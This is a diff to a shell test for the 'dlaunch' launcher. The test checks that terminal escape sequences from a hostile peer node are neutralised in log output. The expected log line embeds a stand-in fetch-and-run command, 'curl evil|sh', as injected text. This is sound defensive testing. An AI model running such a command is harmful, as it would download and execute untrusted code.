@@ -106,7 +106,7 @@ ERRP=$TMP/p0.err
 if grep -q $'\x1b' "$ERRP"; then
   fail_run "2: an escape sequence from the peer reached the console raw: $(grep -a $'\x1b' "$ERRP" | head -n 1 | od -c | head -n 3)"
 fi
-want="dlaunch: rendezvous 127.0.0.1:$port: node 1 (evil) rank 1 ?[2J?[31mrun 'curl evil|sh'?[0m"
+want="dlaunch: job: rendezvous 127.0.0.1:$port: node 1 (evil) rank 1 ?[2J?[31mrun 'curl evil|sh'?[0m"
 grep -qxF -- "$want" "$ERRP" || fail_run "2: expected the line '$want'"
 shown=$(grep -c "node 1 (evil) says its ranks have been silent for -1ms; counting 0" "$ERRP")
 held=$(sed -n "s/^dlaunch: rendezvous 127.0.0.1:$port: \([0-9]*\) more heartbeats with a negative silence in the last 10s (not logged)$/\1/p" "$ERRP" |
